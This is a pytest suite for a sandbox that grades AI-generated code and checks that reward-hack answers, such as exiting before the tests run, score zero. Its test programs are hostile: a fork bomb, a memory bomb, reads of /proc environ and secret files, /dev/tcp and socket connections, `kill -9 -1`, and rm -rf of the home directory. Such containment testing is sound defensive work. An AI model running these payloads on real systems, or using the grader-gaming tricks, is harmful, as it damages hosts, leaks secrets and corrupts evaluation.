"""The code sandbox: grading in each task format, and attacks that must not do harm.

Every attack test checks the harm itself (the file is not there, the process is gone, the listener
got nothing, the secret is not in any output), not only the status the sandbox returned.
"""

from __future__ import annotations

import dataclasses
import json
import os
import resource
import secrets
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import textwrap
import threading
import time
from collections import Counter
from pathlib import Path

import pytest

from distill.config import field_docs
from distill.errors import ConfigError
from distill.sandbox import (
    SandboxLimits,
    SandboxPool,
    extract_code,
    grade_code,
    grading,
    plain,
    run_sandboxed,
    runner,
)
from distill.sandbox.grading import code_format, error_summary, humaneval_source, same_output
from distill.sandbox.runner import LAYERS, choose_interpreter, run_program, status_of
from tests import reward_hacks
from tests.conftest import run_cli

ROOT = Path(__file__).resolve().parents[1]
FAST = SandboxLimits(wall_seconds=5)


def run(program: str, **limits) -> runner.SandboxResult:
    return run_sandboxed(textwrap.dedent(program), limits=SandboxLimits(**{"wall_seconds": 5, **limits}))


def run_without(program: str, without: tuple[str, ...], **limits) -> runner.SandboxResult:
    """A run with some isolation layers switched off, to show that each remaining one holds alone."""
    limits = SandboxLimits(**{"wall_seconds": 5, **limits})
    interpreter, problem = choose_interpreter(limits)
    assert interpreter, problem
    layers = tuple(layer for layer in LAYERS if layer not in without)
    return run_program(textwrap.dedent(program), limits=limits, interpreter=interpreter, layers=layers)


def live_processes_by_uid() -> Counter:
    """Host processes that are not zombies, counted by real uid."""
    counts: Counter = Counter()
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            status = Path(f"/proc/{entry}/status").read_text()
        except OSError:
            continue
        fields = dict(line.split(":", 1) for line in status.splitlines() if ":" in line)
        if fields["State"].split()[0] != "Z":
            counts[int(fields["Uid"].split()[0])] += 1
    return counts


def own_uid(result: runner.SandboxResult) -> int:
    """The run's uid, which tells its processes apart from every other process on the host."""
    assert result.isolation is not None, result
    if result.isolation.uid is None:
        assert os.geteuid() != 0, "running as root, the sandbox must switch the code to a uid of its own"
        pytest.skip("not root: the code runs with our uid, so its processes cannot be told apart")
    return result.isolation.uid


def assert_nothing_left_running(uid: int) -> None:
    """No process of the run's uid, now and a moment later (a delayed daemon would show up)."""
    assert live_processes_by_uid()[uid] == 0
    time.sleep(0.5)
    assert live_processes_by_uid()[uid] == 0


# ---------------------------------------------------------------- limits and extraction (pure)

def test_limits_are_validated_and_documented():
    assert SandboxLimits().memory_mb == 1024 and SandboxLimits().cpu_seconds == 10
    assert SandboxLimits().max_processes == 64
    with pytest.raises(ConfigError, match="--memory-mb must be at least 64"):
        SandboxLimits(memory_mb=8)
    with pytest.raises(ConfigError, match="--wall-seconds must be positive"):
        SandboxLimits(wall_seconds=0)
    with pytest.raises(ConfigError, match="--sandbox-python must be the absolute path"):
        SandboxLimits(sandbox_python="python3")
    docs = field_docs(SandboxLimits)
    assert all(docs.get(f.name) for f in dataclasses.fields(SandboxLimits))


@pytest.mark.parametrize("answer, code", [
    ("```python\nprint(1)\n```", "print(1)\n"),
    ("```py\na = 1\n```\ntext\n```python3\nb = 2\n```", "b = 2\n"),
    ("no code at all", None),
    ("```\nplain = 1\n```", "plain = 1\n"),
    # a tagged block wins over a later untagged one (example output after the code)
    ("```python\ndef f(): return 4\n```\nExample:\n```\n>>> f()\n4\n```", "def f(): return 4\n"),
    # drafts in the reasoning are ignored
    ("<think>\n```python\ndraft()\n```\n</think>\n\n```python\nfinal()\n```", "final()\n"),
    ("<think>\n```python\ndraft()\n```\nstill thinking", None),
    ("<think>\n```python\ndraft()\n```\n</think>\nno code after thinking", None),
    # another language's block is not Python; tildes and longer fences are fences
    ("```bash\nrm -rf /\n```", None),
    ("~~~python\nx = 1\n~~~", "x = 1\n"),
    ("````python\ns = '```'\n````", "s = '```'\n"),
    # indented fence inside a list item; an unclosed final block runs to the end
    ("1. Code:\n   ```python\n   def g():\n       return 1\n   ```", "def g():\n    return 1\n"),
    ("```python\nunclosed = True\n", "unclosed = True\n"),
    ("```python\n\n```", None),
])
def test_extract_code(answer, code):
    assert extract_code(answer) == code


def test_format_inference():
    assert code_format({"prompt": "", "test": "", "entry_point": "f"}) == "humaneval"
    assert code_format({"tests": ["assert f(1) == 2"]}) == "assert"
    assert code_format({"tests": [{"input": "1", "output": "2"}]}) == "stdio"
    assert code_format({"format": "stdio", "tests": []}) == "stdio"


def test_humaneval_body_or_whole_function():
    prompt = 'import math\n\ndef f(x):\n    """Doc."""\n'
    ref = {"prompt": prompt, "test": "def check(c): pass", "entry_point": "f"}
    assert humaneval_source("    return x\n", ref).startswith(prompt + "    return x\n")
    assert humaneval_source("return x\n", ref).startswith(prompt + "    return x\n")
    whole = humaneval_source("def f(x):\n    return math.sqrt(x)\n", ref)
    assert whole.startswith(prompt) and "def f(x):\n    return math.sqrt(x)" in whole
    assert "check" not in whole  # the test never enters the solution's program


def test_output_comparison_and_error_summary():
    assert same_output("1 2\n3  \n\n", "1  2\n3")
    assert not same_output("1\n2\n", "1 2\n")
    traceback = ('Traceback (most recent call last):\n  File "/tmp/main.py", line 5, in <module>\n'
                 '  File "<solution>", line 9, in <module>\n    assert f(2) == 4\nAssertionError\n')
    assert error_summary(traceback) == "AssertionError at `assert f(2) == 4`"


def test_status_of():
    limits = SandboxLimits(cpu_seconds=2)
    assert status_of(0, None, 0.1, None, False, "", limits)[0] == "ok"
    assert status_of(1, None, 0.1, None, False, "Traceback\nValueError: x", limits)[0] == "failed"
    assert status_of(1, None, 0.1, None, False, "Traceback\nMemoryError", limits)[0] == "oom"
    assert status_of(None, signal.SIGKILL, 0.1, "timeout", False, "", limits)[0] == "timeout"
    assert status_of(None, signal.SIGKILL, 2.5, None, False, "", limits)[0] == "timeout"
    assert status_of(None, signal.SIGXCPU, 2.0, None, False, "", limits)[0] == "timeout"
    assert status_of(None, signal.SIGSEGV, 0.1, None, False, "", limits)[0] == "crashed"
    assert status_of(None, signal.SIGKILL, 0.1, None, False, "", limits)[0] == "killed"
    assert status_of(None, signal.SIGKILL, 0.1, "stopped", True, "", limits)[0] == "output_limit"


# ---------------------------------------------------------------- grading in each format

HUMANEVAL = {
    "prompt": 'from typing import List\n\n\ndef add_one(xs: List[int]) -> List[int]:\n    """Add 1 to each."""\n',
    "test": "def check(candidate):\n    assert candidate([1, 2]) == [2, 3]\n    assert candidate([]) == []\n",
    "entry_point": "add_one",
}
ASSERTS = {"tests": ["assert add(1, 2) == 3", "assert add(-1, 1) == 0"], "setup": "import math"}
STDIO = {"tests": [{"input": "1 2\n", "output": "3\n"}, {"input": "10 -4\n", "output": "6"}]}


def fenced(code: str) -> str:
    return f"<think>\nLet me think.\n```python\nwrong draft\n```\n</think>\n\n```python\n{textwrap.dedent(code)}```\n"


@pytest.mark.parametrize("code", [
    "    return [x + 1 for x in xs]\n",                                  # body continuing the prompt
    "def add_one(xs: List[int]) -> List[int]:\n    return [x + 1 for x in xs]\n",  # whole function
])
def test_humaneval_passes_a_correct_solution(code):
    assert grade_code(fenced(code), HUMANEVAL) == (True, "")


def test_humaneval_fails_a_wrong_solution():
    verdict, reason = grade_code(fenced("def add_one(xs):\n    return xs\n"), HUMANEVAL)
    assert verdict is False and "AssertionError at `assert candidate([1, 2]) == [2, 3]`" in reason


def test_assert_format_passes_and_fails():
    assert grade_code(fenced("def add(a, b):\n    return a + b\n"), ASSERTS) == (True, "")
    verdict, reason = grade_code(fenced("def add(a, b):\n    return a * b\n"), ASSERTS)
    assert verdict is False and "assert add(1, 2) == 3" in reason


def test_stdio_format_passes_and_fails():
    right = "a, b = map(int, input().split())\nprint(a + b)\n"
    assert grade_code(fenced(right), STDIO) == (True, "")
    verdict, reason = grade_code(fenced("a, b = map(int, input().split())\nprint(a - b)\n"), STDIO)
    assert verdict is False and reason.startswith("test 1 of 2: expected '3\\n', got '-1\\n'")


def test_exit_before_the_tests_is_a_failure_and_main_guard_does_not_run():
    cheat = "import sys\ndef add(a, b):\n    return 0\nsys.exit(0)\n"
    verdict, reason = grade_code(fenced(cheat), ASSERTS)
    assert verdict is False and "exited before all tests ran" in reason
    guarded = "def add(a, b):\n    return a + b\nif __name__ == '__main__':\n    add(*map(int, input().split()))\n"
    assert grade_code(fenced(guarded), ASSERTS) == (True, "")


def test_cannot_tell_without_code_or_with_a_bad_reference():
    assert grade_code("The answer is 42.", ASSERTS) == (None, "no code block in the answer")
    verdict, reason = grade_code(fenced("x = 1\n"), {"answer": "42"})
    assert verdict is None and "cannot tell its format" in reason
    assert grade_code(fenced("x = 1\n"), {"format": "stdio", "tests": [{"input": 1}]})[0] is None


def test_failures_of_the_program_are_false_verdicts():
    limits = SandboxLimits(wall_seconds=2, memory_mb=256)
    assert grade_code(fenced("while True:\n    pass\n"), STDIO, limits)[1] == \
        "test 1 of 2: timeout: the per-test limit of 2 s"
    verdict, reason = grade_code(fenced("x = b'x' * (1 << 30)\n"), ASSERTS, limits)
    assert verdict is False and reason.startswith("oom")


# ---------------------------------------------------------------- attacks

def test_infinite_loop_is_stopped_and_gone():
    started = time.monotonic()
    result = run("while True:\n    pass\n", wall_seconds=1.5)
    assert result.status == "timeout" and "wall-clock" in result.detail
    assert time.monotonic() - started < 5
    assert_nothing_left_running(own_uid(result))


def test_cpu_limit_binds():
    result = run("while True:\n    pass\n", cpu_seconds=1, wall_seconds=60)
    assert result.status == "timeout" and "CPU" in result.detail  # not the wall clock
    assert 0.9 <= result.cpu_seconds < 3  # SIGXCPU comes at a scheduler tick


def test_process_limit_binds_as_root():
    """The kernel ignores RLIMIT_NPROC for root: the limit holds only because the code runs as a uid
    of its own (or in a user namespace). Here the code counts the children it can actually create."""
    result = run("""
        import os, time
        children = 0
        while children < 1000:
            try:
                pid = os.fork()
            except OSError:
                break
            if pid == 0:
                time.sleep(30)
                os._exit(0)
            children += 1
        print(children)
    """, max_processes=6)
    assert result.status == "ok", result
    assert int(result.stdout) <= 5  # 6 processes: itself and at most 5 children
    if os.geteuid() == 0:
        assert result.isolation.uid_switch and int(result.stdout) == 5
        assert_nothing_left_running(own_uid(result))


def test_fork_bomb_is_contained():
    """Every process forks forever. Sampled from outside, the run never has more live processes
    than the limit; afterwards none is left and the host still forks."""
    limit = 16
    samples: list[Counter] = []
    done = threading.Event()

    def sample():
        while not done.is_set():
            samples.append(live_processes_by_uid())
            time.sleep(0.02)

    sampler = threading.Thread(target=sample)
    sampler.start()
    try:
        result = run("""
            import os, time
            while True:
                try:
                    os.fork()
                except OSError:
                    time.sleep(0.01)
        """, max_processes=limit, wall_seconds=3)
    finally:
        done.set()
        sampler.join()
    uid = own_uid(result)
    assert result.status == "timeout"
    peak = max(counts[uid] for counts in samples)
    assert limit // 2 <= peak <= limit  # it did bomb, and the limit held
    assert_nothing_left_running(uid)
    assert subprocess.run(["true"]).returncode == 0


def test_memory_bomb_is_stopped_and_the_host_is_fine():
    result = run("""
        hoard = []
        while True:
            hoard.append(b"x" * (32 << 20))   # touched pages, not just reserved address space
    """, memory_mb=256)
    assert result.status == "oom", result
    assert result.max_rss_mb is not None and result.max_rss_mb <= 256
    assert len(b"y" * (64 << 20)) == 64 << 20  # and we can still allocate here


def test_huge_output_is_capped_and_the_parent_does_not_buffer_it():
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    result = run("""
        import sys
        chunk = "x" * (1 << 16)
        while True:
            sys.stdout.write(chunk)
            sys.stderr.write(chunk)
    """, max_output_kb=256, wall_seconds=20)
    growth_mb = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) / 1024
    assert result.status == "output_limit" and result.truncated
    assert len(result.stdout) <= 256 << 10 and len(result.stderr) <= 256 << 10
    assert result.duration < 10  # stopped at the cap, not at the wall-clock limit
    assert growth_mb < 64


def test_writing_outside_the_work_directory_leaves_nothing(tmp_path):
    nonce = secrets.token_hex(6)
    open_dir = Path(tempfile.mkdtemp(prefix="distill-test-open-"))
    open_dir.chmod(0o777)  # writable by anyone: only the sandbox's own isolation can stop the write
    targets = [tmp_path / f"escape-{nonce}", ROOT / f"escape-{nonce}", Path(f"/tmp/escape-{nonce}"),
               Path(f"/var/tmp/escape-{nonce}"), Path(f"/dev/shm/escape-{nonce}"), open_dir / "escape"]
    try:
        result = run(f"""
            import subprocess
            for path in {[str(t) for t in targets]!r}:
                try:
                    with open(path, "w") as f:
                        f.write("escaped")
                    print("wrote", path)
                except OSError as exc:
                    print("refused", path, exc)
                subprocess.run(["sh", "-c", f"echo escaped > {{path}}.sh"], stderr=subprocess.DEVNULL)
        """)
        assert result.status == "ok", result
        for target in targets:
            assert not target.exists(), target
            assert not Path(f"{target}.sh").exists(), target
    finally:
        shutil.rmtree(open_dir, ignore_errors=True)
        for target in targets:
            for path in (target, Path(f"{target}.sh")):
                if path.exists() and not path.is_relative_to(open_dir):
                    path.unlink()


def test_secrets_in_the_parent_do_not_leak(tmp_path, monkeypatch):
    secret = "sk-" + secrets.token_hex(16)
    monkeypatch.setenv("DISTILL_TEST_API_KEY", secret)
    secret_file = tmp_path / "token"
    secret_file.write_text(secret)
    secret_file.chmod(0o600)
    result = run(f"""
        import glob, os
        print(dict(os.environ))
        for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline") + [{str(secret_file)!r}]:
            try:
                print(path, open(path, "rb").read())
            except OSError as exc:
                print(path, "refused", exc.errno)
        print(os.popen("env; cat /proc/$PPID/environ").read())
    """)
    assert result.status == "ok", result
    assert secret not in result.stdout + result.stderr
    environment = eval(result.stdout.splitlines()[0])  # the dict the code printed
    assert set(environment) <= {"PATH", "HOME", "TMPDIR", "PWD", "LANG", "LC_ALL", "LC_CTYPE", "MALLOC_ARENA_MAX"}


def _listen(kind: int) -> tuple[socket.socket, int]:
    server = socket.socket(socket.AF_INET, kind)
    server.bind(("127.0.0.1", 0))
    if kind == socket.SOCK_STREAM:
        server.listen()
    server.settimeout(1.0)
    return server, server.getsockname()[1]


NETWORK_ATTACK = """
    import socket, subprocess, urllib.request
    def attempt(what, action):
        try:
            action()
            print(what, "reached")
        except Exception as exc:
            print(what, "refused", type(exc).__name__, exc)
    attempt("tcp", lambda: socket.create_connection(("127.0.0.1", {tcp}), timeout=1).sendall(b"hi"))
    attempt("udp", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"hi", ("127.0.0.1", {udp})))
    attempt("http", lambda: urllib.request.urlopen("http://127.0.0.1:{tcp}/", timeout=1))
    attempt("tcp6", lambda: socket.create_connection(("::1", {tcp}), timeout=1))
    subprocess.run(["bash", "-c", "echo hi > /dev/tcp/127.0.0.1/{tcp}"], stderr=subprocess.DEVNULL)
"""


@pytest.mark.parametrize("without", [(), ("seccomp",), ("network",)],
                         ids=["all-layers", "network-namespace-alone", "seccomp-alone"])
def test_network_is_cut(without):
    """A listener in the test process sees no connection and no datagram, with both layers and with
    each layer alone (the seccomp filter is the fallback where the kernel refuses a namespace)."""
    tcp, tcp_port = _listen(socket.SOCK_STREAM)
    udp, udp_port = _listen(socket.SOCK_DGRAM)
    with tcp, udp:
        result = run_without(NETWORK_ATTACK.format(tcp=tcp_port, udp=udp_port), without)
        if without == ("seccomp",) and not result.isolation.network_namespace:
            pytest.skip(f"the kernel refuses network namespaces here: {result.isolation.refused}")
        if without == ("network",) and not result.isolation.seccomp:
            pytest.skip("seccomp filters are not available here")
        assert result.status == "ok", result
        assert "reached" not in result.stdout, result.stdout
        with pytest.raises(TimeoutError):
            tcp.accept()
        with pytest.raises(TimeoutError):
            udp.recvfrom(16)


def test_killing_the_parent_and_everything_else_fails():
    """The code kills its parent, the test process, a bystander and `kill -9 -1`; all of them live,
    and so does another sandboxed run going on at the same time."""
    bystander = subprocess.Popen(["sleep", "60"])
    victim: dict = {}
    neighbour = threading.Thread(target=lambda: victim.update(
        result=run("import time\ntime.sleep(4)\nprint('survived')\n", wall_seconds=10)))
    neighbour.start()
    try:
        time.sleep(1)
        result = run(f"""
            import os, signal
            for pid in (os.getppid(), {os.getpid()}, {bystander.pid}, 1, -1):
                try:
                    os.kill(pid, signal.SIGKILL)
                except OSError as exc:
                    print(pid, exc)
            os.system("kill -9 -1")
            os.system("kill -9 {os.getpid()} {bystander.pid}")
        """)
        neighbour.join()
        assert result.status in ("ok", "killed"), result
        assert bystander.poll() is None  # the bystander lives (and we do, to check it)
        assert victim["result"].status == "ok" and victim["result"].stdout == "survived\n"
    finally:
        bystander.kill()
        bystander.wait()
        neighbour.join()


def test_deleting_home_leaves_the_real_home_alone(monkeypatch):
    home = Path(tempfile.mkdtemp(prefix="distill-test-home-"))
    try:
        home.chmod(0o755)  # permissions of an ordinary home directory
        sentinel = home / ".ssh" / "id_ed25519"
        sentinel.parent.mkdir()
        sentinel.write_text("keep me")
        monkeypatch.setenv("HOME", str(home))
        result = run(f"""
            import os, shutil, subprocess
            shutil.rmtree(os.path.expanduser("~"), ignore_errors=True)
            shutil.rmtree({str(home)!r}, ignore_errors=True)
            for path in ({str(sentinel)!r}, {str(sentinel.parent)!r}):
                try:
                    os.remove(path)
                except OSError as exc:
                    print(exc)
            subprocess.run(["rm", "-rf", {str(home)!r}, os.environ["HOME"]], stderr=subprocess.DEVNULL)
        """)
        assert result.status == "ok", result
        assert sentinel.read_text() == "keep me"
    finally:
        shutil.rmtree(home, ignore_errors=True)


DAEMON = """
    import os, sys, time
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:          # double fork: reparented, in a session of its own
            time.sleep(1.5)
            while True:             # the heartbeat goes to the run's stdout, which it still holds
                print("daemon alive", flush=True)
                time.sleep(0.05)
        os._exit(0)
    time.sleep(0.1)
    print("main done")
"""


@pytest.mark.parametrize("without", [(), ("pid",), ("pid", "mount")],
                         ids=["pid-namespace", "uid-kill", "uid-kill-no-mount"])
def test_daemon_does_not_outlive_the_run(without):
    """The daemon keeps the run's stdout open, so the run can end (status ok, before the wall-clock
    limit) only with EOF on stdout, that is once the daemon is dead; it never wrote its heartbeat,
    and no process of the run's uid is left."""
    result = run_without(DAEMON, without, wall_seconds=10)
    assert result.status == "ok", result
    assert result.stdout == "main done\n"
    assert_nothing_left_running(own_uid(result))


def test_nothing_is_left_behind(monkeypatch):
    parent = Path(tempfile.mkdtemp(prefix="distill-test-workdirs-"))
    monkeypatch.setattr(tempfile, "tempdir", str(parent))
    try:
        result = run("""
            import os, subprocess
            os.makedirs("deep/er/still")
            open("deep/er/still/file", "w").write("x")
            os.mkfifo("fifo")
            os.symlink("/etc/passwd", "link")
            os.chmod("deep/er", 0)          # a directory its owner cannot enter
            subprocess.Popen(["sh", "-c", "sleep 0.2; touch late-file"])
            open("/tmp/in-tmp", "w").write("x")
        """)
        assert result.status == "ok", result
        time.sleep(0.5)
        assert list(parent.iterdir()) == []
    finally:
        shutil.rmtree(parent, ignore_errors=True)


def test_a_killed_grader_leaves_no_sandbox_behind():
    """SIGKILL the process that is grading: the sandbox it started dies with it."""
    uid = runner.UID_BASE + secrets.randbelow(runner.UID_SPAN)
    script = textwrap.dedent(f"""
        import sys
        sys.path.insert(0, {str(ROOT)!r})
        from distill.sandbox import runner
        runner.UID_BASE, runner.UID_SPAN = {uid}, 1
        print("started", flush=True)
        runner.run_sandboxed("import os, time\\nos.fork()\\ntime.sleep(60)\\n")
    """)
    if os.geteuid() != 0:
        pytest.skip("needs root: the run's processes are found by their uid")
    grader = subprocess.Popen([sys.executable, "-c", script], stdout=subprocess.PIPE, text=True)
    assert grader.stdout.readline() == "started\n"
    deadline = time.monotonic() + 60  # the loop ends when they run; the margin is for a loaded machine
    while live_processes_by_uid()[uid] < 2 and time.monotonic() < deadline:
        time.sleep(0.05)
    assert live_processes_by_uid()[uid] == 2  # the code and its child are running
    grader.kill()
    grader.wait()
    grader.stdout.close()
    deadline = time.monotonic() + 30
    while live_processes_by_uid()[uid] and time.monotonic() < deadline:
        time.sleep(0.05)
    assert_nothing_left_running(uid)
    # The dead grader could not remove its work directory: the next run here (or in any other
    # grader of this PID namespace, which may have come first) removes it.
    run("pass")
    stale = [p for p in Path(tempfile.gettempdir()).glob(f"{runner.WORKDIR_PREFIX}*") if p.stat().st_uid == uid]
    assert stale == []


# ---------------------------------------------------------------- isolation report and strict mode

def test_isolation_layers_and_strict_mode():
    result = run("print('ran')")
    isolation = result.isolation
    if os.geteuid() == 0:
        assert isolation.uid_switch and isolation.uid is not None
    assert isolation.network_cut
    # Strict mode refuses (before the code runs) when the network would not be cut.
    interpreter, _ = choose_interpreter(FAST)
    refused = run_program("print('ran')", limits=SandboxLimits(strict_isolation=True), interpreter=interpreter,
                          layers=("user", "pid", "mount"))
    assert refused.status == "error" and "network is not cut" in refused.detail
    assert refused.stdout == ""


# ---------------------------------------------------------------- the pool

def test_pool_survives_crashes_and_keeps_order(monkeypatch):
    good = fenced("def add(a, b):\n    return a + b\n")
    items = [
        (good, ASSERTS),
        (fenced("import ctypes\nctypes.string_at(0)\n"), ASSERTS),            # segfault
        (fenced("import os, signal\nos.kill(os.getpid(), signal.SIGKILL)\n"), ASSERTS),
        (fenced("while True:\n    pass\n"), ASSERTS),                         # timeout
        ("no code", ASSERTS),
        (good, {"nonsense": True}),
        (fenced("def add(a, b):\n    return a - b\n"), ASSERTS),
        (good, ASSERTS),
    ]
    with SandboxPool(workers=3, limits=SandboxLimits(wall_seconds=2)) as pool:
        verdicts = pool.grade_many(items)
        assert [v for v, _ in verdicts] == [True, False, False, False, None, None, False, True]
        assert verdicts[1][1].startswith("crashed") and verdicts[2][1].startswith("killed")
        assert verdicts[3][1].startswith("timeout")

        def broken(*args, **kwargs):
            raise OSError("no more file descriptors")

        monkeypatch.setattr("distill.sandbox.pool.grade_code", broken)
        assert pool.grade_many([(good, ASSERTS)]) == [(None, "sandbox error: OSError: no more file descriptors")]
        monkeypatch.undo()
        assert pool.grade_many([(good, ASSERTS)] * 3) == [(True, "")] * 3


# ---------------------------------------------------------------- the verdict is decided outside

HACK_LIMITS = SandboxLimits(wall_seconds=1, total_seconds=3)


@pytest.mark.parametrize("name, answer, reference", reward_hacks.all_hacks(), ids=lambda v: v if isinstance(v, str)
                         and "\n" not in v else "")
def test_reward_hacks_score_zero(name, answer, reference):
    verdict, reason = grade_code(answer, reference, HACK_LIMITS)
    assert verdict is False, (name, reason)


@pytest.mark.parametrize("reference, code", [(reward_hacks.ASSERT_REFERENCE, reward_hacks.RIGHT_ADD),
                                             (reward_hacks.HUMANEVAL_REFERENCE, reward_hacks.RIGHT_ADD),
                                             (reward_hacks.STDIO_REFERENCE, reward_hacks.RIGHT_STDIO)])
def test_the_honest_twin_of_the_hacks_passes(reference, code):
    assert grade_code(reward_hacks.fenced(code), reference, HACK_LIMITS) == (True, "")


def test_reward_hacks_are_rejected_by_distill_filter(tmp_path):
    """Every hack through the real CLI, with the sandbox limits as recipe keys and flags."""
    from tests.test_filter import THINK, record

    answers = [(name, answer.rpartition("</think>")[2], reference)
               for name, answer, reference in reward_hacks.all_hacks()]
    answers += [("right/assert", reward_hacks.fenced(reward_hacks.RIGHT_ADD), reward_hacks.ASSERT_REFERENCE),
                ("right/stdio", reward_hacks.fenced(reward_hacks.RIGHT_STDIO), reward_hacks.STDIO_REFERENCE)]
    rows = [record(name, 0, THINK.format(reasoning="Add the two arguments.", answer=answer.rpartition("</think>")[2]),
                   reference=reference, prompt="Write add(a, b).") for name, answer, reference in answers]
    traces = tmp_path / "traces.jsonl"
    traces.write_text("".join(json.dumps(row) + "\n" for row in rows))
    recipe = tmp_path / "filter.yaml"
    recipe.write_text("wall_seconds: 1\nmemory_mb: 512\nmax_disk_mb: 64\n")
    result = run_cli("filter", traces, "--out", tmp_path / "kept.jsonl", "--checks", "correctness",
                     "--config", recipe, "--total-seconds", "3", "--workers", "2")
    assert result.returncode == 0, result.stderr
    kept = [json.loads(line)["prompt_id"] for line in (tmp_path / "kept.jsonl").read_text().splitlines()]
    assert kept == ["right/assert", "right/stdio"]
    rejected = [json.loads(line) for line in (tmp_path / "kept.rejects.jsonl").read_text().splitlines()]
    assert len(rejected) == len(reward_hacks.all_hacks())
    assert all(r["verdicts"]["correctness"] is False for r in rejected)
    assert "timed out in math-verify" not in result.stderr + result.stdout


def test_plain_values_cross_the_boundary_with_their_exact_types():
    values = [None, True, 0, -7, 1.5, float("inf"), "é\x00", b"\x00\xff", [1, [2]], (1, (2,)), {1, "a"},
              {"k": [1], (1, 2): None}, [], (), set(), {}]
    for value in values:
        back = plain.decode(plain.encode(value))
        assert back == value and type(back) is type(value)
    assert plain.decode(plain.encode((1, 1.0))) == (1, 1.0) and type(plain.decode("1.0")) is float

    class Int(int):
        pass

    for bad in (Int(3), [object()], frozenset(), 3j, 10 ** 5000):
        with pytest.raises(plain.NotPlain):
            plain.encode(bad)
    for forged in ('{"x": 1}', '{"tuple": [1], "set": []}', '{"set": [[1]]}', '{"bytes": 3}', "[" * 100000,
                   "1" * 5000, "nonsense", '{"dict": [[1]]}'):
        with pytest.raises(plain.NotPlain):
            plain.decode(forged)


def test_the_tests_never_enter_the_solutions_process(monkeypatch):
    """The program and stdin the sandbox gets hold the solution and the calls' arguments, never an
    expected value or the test's text."""
    seen = []
    real = grading.run_sandboxed

    def spy(program, **kwargs):
        seen.append(program + kwargs.get("stdin", ""))
        return real(program, **kwargs)

    monkeypatch.setattr(grading, "run_sandboxed", spy)
    reference = {"tests": ["assert add(40, 2) == 987654", "assert add(1, 1) == 'secret-expected'"]}
    verdict, _ = grade_code(fenced("def add(a, b):\n    return a + b\n"), reference, FAST)
    assert verdict is False and len(seen) == 1
    assert "987654" not in seen[0] and "secret-expected" not in seen[0] and "assert" not in seen[0]
    assert "40" in seen[0]  # the arguments do go in


@pytest.mark.parametrize("test, verdict", [
    ("assert math.isclose(candidate(2), 4.0, rel_tol=1e-9)", True),
    ("assert abs(candidate(3) - 6) < 1e-6", True),
    ("for x in range(5):\n        assert candidate(x) == 2 * x", True),
    ("assert all(candidate(x) == 2 * x for x in [1, 2, 3])", True),
    ("xs = [candidate(1), candidate(2)]\n    assert sorted(xs) == [2, 4]", True),
    ("assert candidate(1) != 2", False),
    ("assert [candidate(x) for x in (1, 2)] == [2, 5]", False),
    ("assert True\n    assert candidate(-1) == -2, 'message'", True),
    ("print(candidate(2))\n    assert candidate(2) == 4", True),
])
def test_humaneval_checks_run_on_the_trusted_side(test, verdict):
    reference = {"prompt": "import math\n\ndef double(x):\n", "test": f"def check(candidate):\n    {test}\n",
                 "entry_point": "double"}
    assert grade_code(fenced("    return x * 2\n"), reference, FAST)[0] is verdict


@pytest.mark.parametrize("test, why", [
    ("import random\n    assert candidate(random.randint(1, 9)) > 0", "import random"),
    ("assert candidate(candidate(1)) == 4", "another call's result"),
    ("assert (lambda r: r == 2)(candidate(1))", "Lambda"),
    ("if candidate(1) == 2:\n        assert True", "a branch on a solution's result"),
    ("assert candidate(1) == HELPER", "other than by calling it"),
    ("assert hasattr(candidate(1), 'x')", "the builtin `hasattr`"),
])
def test_tests_that_cannot_be_checked_outside_are_none_with_the_reason(test, why):
    reference = {"prompt": "def double(x):\n", "test": f"def check(candidate):\n    {test}\n", "entry_point": "double"}
    verdict, reason = grade_code(fenced("    return x * 2\n"), reference, FAST)
    assert verdict is None and "cannot be checked outside the solution's process" in reason and why in reason


def test_timeouts_are_false_per_test_or_total_and_say_which():
    slow = fenced("import time\ndef add(a, b):\n    time.sleep(a)\n    return a + b\n")
    many = {"tests": [f"assert add(0.4, {i}) == {0.4 + i}" for i in range(6)]}
    verdict, reason = grade_code(slow, {"tests": ["assert add(5, 0) == 5"]}, SandboxLimits(wall_seconds=1))
    assert verdict is False and "per-test limit" in reason
    verdict, reason = grade_code(slow, many, SandboxLimits(wall_seconds=1, total_seconds=1.5))
    assert verdict is False and "total cap of 1.5 s" in reason
    assert grade_code(slow, many, SandboxLimits(wall_seconds=1, total_seconds=20)) == (True, "")
    spin = fenced("while True:\n    pass\n")
    verdict, reason = grade_code(spin, STDIO, SandboxLimits(wall_seconds=5, total_seconds=1))
    assert verdict is False and reason == "test 1 of 2: timeout: the total cap of 1 s"


def test_many_stdio_tests_get_a_budget_that_grows_with_them():
    """The grading pool's deadline follows the sandbox's total cap, so a right answer to a task with
    many tests is True, not a None 'timeout' of the pool (the 300-test case of issue 17)."""
    from distill.grading_pool import GradingPool

    tests = [{"input": f"{i} {i}\n", "output": f"{2 * i}\n"} for i in range(30)]
    limits = SandboxLimits(wall_seconds=1, total_seconds=120)
    with GradingPool(1, timeout=1.0, sandbox_limits=limits) as pool:
        [graded] = pool.grade_many([(fenced("a, b = map(int, input().split())\nprint(a + b)\n"),
                                     {"tests": tests})])
    assert graded.verdict is True, graded


def test_writes_have_a_total_cap():
    """Files of 32 MiB each (under max_file_mb) stop at max_disk_mb altogether: /tmp is a sized tmpfs."""
    result = run("""
        import errno
        written = 0
        try:
            for i in range(16):
                with open(f"/tmp/f{i}" if i % 2 else f"f{i}", "wb") as f:
                    for _ in range(32):
                        f.write(b"x" * (1 << 20))
                        written += 1
        except OSError as exc:
            print(written, errno.errorcode[exc.errno])
    """, max_disk_mb=100, max_file_mb=64)
    assert result.isolation.tmp_cap, result
    written, error = result.stdout.split()
    assert error == "ENOSPC" and 90 <= int(written) <= 100


NON_ROOT_UID = 12345


@pytest.mark.skipif(os.geteuid() != 0 or not shutil.which("setpriv") or not os.path.exists("/usr/bin/python3"),
                    reason="needs root (to become another user with setpriv) and /usr/bin/python3")
def test_non_root_runs_keep_their_own_uid_and_cannot_write_home():
    """As an ordinary user: the uid map holds (ids read before the unshare), the home (outside /tmp,
    which is private anyway) is read-only for the code, the mode-0600 token there cannot be changed, and
    without a user namespace the run is refused instead of falling back to writing the home."""
    home = Path(tempfile.mkdtemp(prefix="distill-home-", dir="/var/tmp" if not os.path.isdir("/home") else "/home"))
